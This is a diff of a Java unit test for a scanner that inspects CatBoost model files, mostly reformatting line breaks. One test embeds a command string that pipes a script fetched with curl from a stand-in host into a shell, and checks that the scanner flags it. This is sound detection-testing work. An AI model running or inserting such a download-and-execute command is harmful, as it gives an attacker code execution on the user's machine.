@@ -35,21 +35,33 @@ class CatboostFormatTest {
 
   @Test
   void aCommandInATextIsSuspicious() throws IOException {
-    byte[] model = model(core(), "python -c \"import os; os.system('curl https://x.example | sh')\"");
+    byte[] model =
+        model(core(), "python -c \"import os; os.system('curl https://x.example | sh')\"");
 
     assertThat(rules(Bundle.inspect("m.cbm", model))).contains("catboost-payload");
   }
 
   private static byte[] model(byte[] core, String after) {
-    ByteBuffer bytes = ByteBuffer.allocate(8 + core.length + after.length()).order(ByteOrder.LITTLE_ENDIAN);
-    return bytes.put("CBM1".getBytes(ISO_8859_1)).putInt(core.length).put(core).put(after.getBytes(ISO_8859_1)).array();
+    ByteBuffer bytes =
+        ByteBuffer.allocate(8 + core.length + after.length()).order(ByteOrder.LITTLE_ENDIAN);
+    return bytes
+        .put("CBM1".getBytes(ISO_8859_1))
+        .putInt(core.length)
+        .put(core)
+        .put(after.getBytes(ISO_8859_1))
+        .array();
   }
 
   /** A table with one field, a text: its shapes at 4, itself at 12, the text at 20. */
   private static byte[] core() {
     byte[] version = "FlabuffersModel_v1".getBytes(ISO_8859_1);
     ByteBuffer bytes = ByteBuffer.allocate(24 + version.length).order(ByteOrder.LITTLE_ENDIAN);
-    bytes.putInt(12).putShort((short) 6).putShort((short) 8).putShort((short) 4).putShort((short) 0);
+    bytes
+        .putInt(12)
+        .putShort((short) 6)
+        .putShort((short) 8)
+        .putShort((short) 4)
+        .putShort((short) 0);
     bytes.putInt(8).putInt(4).putInt(version.length).put(version);
     return bytes.array();
   }
